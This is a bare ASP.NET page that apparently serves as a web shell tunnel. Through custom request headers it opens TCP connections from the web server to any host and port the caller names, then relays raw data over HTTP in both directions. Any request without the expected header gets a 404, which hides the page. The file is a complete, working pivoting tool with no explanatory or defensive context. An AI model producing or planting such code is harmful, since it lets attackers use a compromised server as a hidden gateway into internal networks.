<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string op = Request.Headers["X-OP"];
    if (op == "open")
    {
        string host = Request.Headers["X-HOST"];
        int port = int.Parse(Request.Headers["X-PORT"]);
        Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        s.Connect(new IPEndPoint(Dns.GetHostAddresses(host)[0], port));
        s.Blocking = false;
        Session["sock"] = s;
        Response.AddHeader("X-RESULT", "0");
    }
    else if (op == "push")
    {
        Socket s = (Socket)Session["sock"];
        s.Send(Request.BinaryRead(Request.ContentLength));
        Response.AddHeader("X-RESULT", "0");
    }
    else if (op == "pull")
    {
        Socket s = (Socket)Session["sock"];
        byte[] buf = new byte[16384];
        int n = 0;
        try { n = s.Receive(buf); } catch (SocketException) { }
        Response.AddHeader("X-RESULT", "0");
        Response.OutputStream.Write(buf, 0, n);
    }
    else if (op == "close")
    {
        Socket s = (Socket)Session["sock"];
        if (s != null) s.Close();
        Session.Remove("sock");
        Response.AddHeader("X-RESULT", "0");
    }
    else
    {
        Response.StatusCode = 404;
    }
}
</script>
